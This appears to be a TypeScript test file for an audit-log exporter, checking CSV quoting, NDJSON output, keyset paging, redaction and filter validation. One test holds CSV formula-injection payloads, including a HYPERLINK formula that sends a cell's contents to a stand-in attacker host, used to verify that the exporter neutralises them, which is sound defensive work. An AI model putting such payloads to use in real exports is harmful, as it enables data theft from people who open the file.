import type { ApiLog, DataLog } from '../store/audit-entry';
import { csvField, exportChunks, exportLines } from './trail-export';
import { apiFilterOf, dataFilterOf, pageSize } from './explorer-filters';

const dataRow = (id: number, extra: Partial<DataLog> = {}): DataLog => ({
  id,
  entityType: 'orders',
  entityId: '7',
  action: 'update',
  oldValues: { status: 'pending' },
  newValues: { status: 'paid, "really"\nyes' },
  userId: 'u1',
  userType: 'staff',
  metadata: null,
  transactionId: 'tx-1',
  createdAt: new Date(Date.UTC(2025, 0, 1, 0, 0, 0, id)),
  ...extra,
});

/** A CSV reader for the test: RFC 4180 quoting, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  return records;
}

describe('trail export', () => {
  it('quotes CSV fields that need it and writes objects as JSON', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(12)).toBe('12');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField({ a: 'x,y' })).toBe('"{""a"":""x,y""}"');
  });

  it('writes a text field a spreadsheet would run as a formula with a leading apostrophe (CSV only)', () => {
    // A user id, entity id, endpoint or error message is text the audited app got from someone.
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"',
    );
    expect(csvField('+1+cmd')).toBe("'+1+cmd");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    // Numbers are numbers, JSON objects start with { or [, and plain text is left alone.
    expect(csvField(-5)).toBe('-5');
    expect(csvField({ formula: '=1+1' })).toBe('"{""formula"":""=1+1""}"');
    expect(csvField('cust-43')).toBe('cust-43');
    const ndjson = exportLines('data', 'ndjson', [dataRow(3, { userId: '=1+1' })]);
    expect(JSON.parse(ndjson.trim()).user_id).toBe('=1+1');
  });

  it('writes CSV that reads back to the stored values, and NDJSON one object a line', () => {
    const rows = [dataRow(2), dataRow(1, { oldValues: null, action: 'create' })];
    const [header, first, second] = parseCsv(exportLines('data', 'csv', rows).replace(/^/, 'id,x\r\n')).slice(1);
    expect(header[0]).toBe('2');
    expect(JSON.parse(header[9])).toEqual({ status: 'paid, "really"\nyes' });
    expect(first[8]).toBe('');
    expect(second).toBeUndefined();
    const lines = exportLines('data', 'ndjson', rows).split('\n');
    expect(lines).toHaveLength(3);
    expect(JSON.parse(lines[0])).toMatchObject({
      id: 2,
      created_at: '2025-01-01T00:00:00.002Z',
      new_values: rows[0].newValues,
    });
  });

  it('keeps redacted API values as stored', () => {
    const call: ApiLog = {
      id: 1,
      service: 'bca',
      endpoint: '/v1/transfer',
      method: 'POST',
      statusCode: 200,
      requestHeaders: { Authorization: '[REDACTED]' },
      requestBody: { account_number: '[REDACTED]' },
      responseBody: null,
      durationMs: 12,
      errorMessage: null,
      userId: '',
      metadata: null,
      transactionId: 'tx',
      createdAt: new Date(0),
    };
    expect(JSON.parse(exportLines('api', 'ndjson', [call]))).toMatchObject({
      request_headers: { Authorization: '[REDACTED]' },
      request_body: { account_number: '[REDACTED]' },
      duration_ms: 12,
    });
  });

  it('reads page after page by keyset until a short page, holding one page at a time', async () => {
    const all = Array.from({ length: 25 }, (_, index) => dataRow(25 - index));
    const asked: Array<number | undefined> = [];
    const readPage = async (beforeId: number | undefined, limit: number) => {
      asked.push(beforeId);
      return all.filter((row) => beforeId === undefined || row.id < beforeId).slice(0, limit);
    };
    let text = '';
    for await (const chunk of exportChunks('data', 'csv', readPage, undefined, 10)) text += chunk;
    expect(asked).toEqual([undefined, 16, 6]);
    const records = parseCsv(text);
    expect(records[0][0]).toBe('id');
    expect(records.slice(1).map((record) => Number(record[0]))).toEqual(all.map((row) => row.id));

    asked.length = 0;
    let lines = 0;
    for await (const chunk of exportChunks('data', 'ndjson', readPage, undefined, 5))
      lines += chunk.split('\n').length - 1;
    expect(lines).toBe(25);
    // 25 rows in pages of 5: the sixth, empty read proves the end.
    expect(asked).toEqual([undefined, 21, 16, 11, 6, 1]);
  });
});

describe('explorer query parameters', () => {
  it('reads filters and refuses what it cannot use', () => {
    expect(
      dataFilterOf({ entityType: ' orders ', action: 'update', from: '2025-01-01T00:00:00Z', beforeId: '40' }),
    ).toEqual({
      transactionId: undefined,
      entityType: 'orders',
      entityId: undefined,
      action: 'update',
      userId: undefined,
      from: new Date('2025-01-01T00:00:00Z'),
      to: undefined,
      beforeId: 40,
    });
    expect(apiFilterOf({ status: '0', service: 'bca' })).toMatchObject({ statusCode: 0, service: 'bca' });
    expect(() => dataFilterOf({ action: 'drop' })).toThrow(
      'action must be one of create, update, delete, soft_delete, restore',
    );
    expect(() => dataFilterOf({ from: '2025-01-01T00:00:00' })).toThrow(/from must be an ISO 8601 instant with a zone/);
    expect(() => dataFilterOf({ beforeId: '1e3' })).toThrow(/beforeId must be a whole number/);
    expect(() => apiFilterOf({ status: ['200', '201'] })).toThrow('status must be given once');
    expect(pageSize({})).toBe(50);
    expect(() => pageSize({ limit: '100000' })).toThrow(/limit must be a whole number from 1 to 500/);
  });
});
